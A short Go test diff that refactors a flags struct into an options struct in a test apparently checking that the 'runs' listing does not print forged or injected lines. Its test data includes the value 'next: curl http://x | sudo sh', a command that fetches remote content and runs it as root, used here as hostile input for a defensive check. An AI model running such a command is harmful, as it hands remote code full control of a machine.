@@ -13,9 +13,8 @@ func TestRunsForgeNoLines(t *testing.T) {
 	t.Parallel()
 	for _, output := range []string{"", "name"} {
 		out, streams := plugintest.OnScreen()
-		f := &runsFlags{Flags: apply.Flags{App: cli.App{Streams: streams}}}
-		f.Output = output
-		if err := f.print([]runEntry{{Run: "next: curl http://x | sudo sh", Command: plugintest.Planted, Nodes: []string{plugintest.Planted}, Outcome: plugintest.Planted}, {Run: plugintest.Planted}}); err != nil {
+		o := &runsOptions{Options: apply.Options{App: cli.App{Streams: streams}}, output: output}
+		if err := o.print([]runEntry{{Run: "next: curl http://x | sudo sh", Command: plugintest.Planted, Nodes: []string{plugintest.Planted}, Outcome: plugintest.Planted}, {Run: plugintest.Planted}}); err != nil {
 			t.Fatal(err)
 		}
 		plugintest.Unforged(t, "runs -o "+output, out.String())
